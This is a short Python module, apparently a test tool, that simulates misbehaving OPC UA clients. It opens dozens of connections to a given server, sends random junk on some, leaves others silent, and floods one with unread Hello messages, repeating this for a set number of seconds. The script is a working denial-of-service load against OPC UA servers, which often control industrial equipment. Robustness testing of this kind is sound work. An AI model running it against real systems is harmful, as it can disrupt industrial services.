"""Misbehaving clients: ``python -m kit.opcua.attacks URL SECONDS`` repeats their actions for so long.

Junk, silent connections, and endless greetings whose answers are not read.
"""

from __future__ import annotations

import os
import socket
import struct
import sys
import time
from contextlib import ExitStack, suppress
from urllib.parse import urlsplit

_HELLO = struct.pack("<IIIII", 0, 65535, 65535, 0, 0) + struct.pack("<i", 0)
GREETING = b"HELF" + struct.pack("<I", len(_HELLO) + 8) + _HELLO


def attack(address: tuple[str, int]) -> None:
    """One round of all."""
    with ExitStack() as stack, suppress(OSError):
        crowd = [stack.enter_context(socket.create_connection(address, timeout=1.0)) for _ in range(40)]
        for line in crowd[:20]:
            line.sendall(os.urandom(8192))
        flood = crowd[-1]
        flood.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        for _ in range(200):
            flood.sendall(GREETING * 100)


def main(url: str, seconds: str) -> None:
    """Attack until the time is over."""
    parts = urlsplit(url)
    assert parts.hostname is not None
    assert parts.port is not None
    until = time.monotonic() + float(seconds)
    while time.monotonic() < until:
        attack((parts.hostname, parts.port))


if __name__ == "__main__":
    main(*sys.argv[1:])
